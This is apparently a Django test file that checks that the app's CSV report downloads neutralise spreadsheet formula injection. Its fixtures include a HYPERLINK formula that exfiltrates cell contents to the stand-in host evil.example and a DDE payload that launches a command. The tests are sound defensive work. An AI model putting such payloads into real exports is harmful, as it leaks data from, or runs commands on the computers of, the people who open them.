"""Every CSV the app writes neutralises text that a spreadsheet would run as a formula:
report downloads too, not only the deal exports (issue 11)."""

import csv
import io

from django.test import TransactionTestCase

from loudou.analytics.output import neutralise
from loudou.deals import services
from loudou.people.models import Role, Team, User
from loudou.reports import loader

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


class ReportCsvFormulaTests(TransactionTestCase):
    serialized_rollback = True

    def setUp(self):
        loader.clear_cache()
        manager = User.objects.create_user(username="m", password="x", role=Role.MANAGER)
        team = Team.objects.create(name="North", manager=manager)
        rep = User.objects.create_user(username="rep", password="x", team=team)
        services.create_deal(actor=rep, name="d", amount="100", source=FORMULA)
        services.create_deal(actor=rep, name="e", amount="100", source="+cmd|' /C calc'!A0")
        self.client.force_login(manager)

    def tearDown(self):
        loader.clear_cache()

    def cells(self, url: str) -> list[str]:
        response = self.client.get(url)
        self.assertEqual(response.status_code, 200)
        text = response.content.decode("utf-8-sig")
        return [cell for row in csv.reader(io.StringIO(text)) for cell in row]

    def test_report_downloads_carry_no_formula(self):
        for url in ("/reports/funnel.csv?by=source", "/reports/snapshot.csv?by=source"):
            with self.subTest(url):
                cells = self.cells(url)
                self.assertIn("'" + FORMULA, cells)
                self.assertFalse([c for c in cells if c and c[0] in "=+@"], cells)

    def test_numbers_stay_numbers(self):
        self.assertEqual(neutralise("-12.50"), "-12.50")
        self.assertEqual(neutralise(-3), -3)
        self.assertEqual(neutralise("-1e5"), "-1e5")
        self.assertEqual(neutralise("-x"), "'-x")
        self.assertEqual(neutralise("\t=1"), "'\t=1")
        self.assertEqual(neutralise("@SUM(A1)"), "'@SUM(A1)")
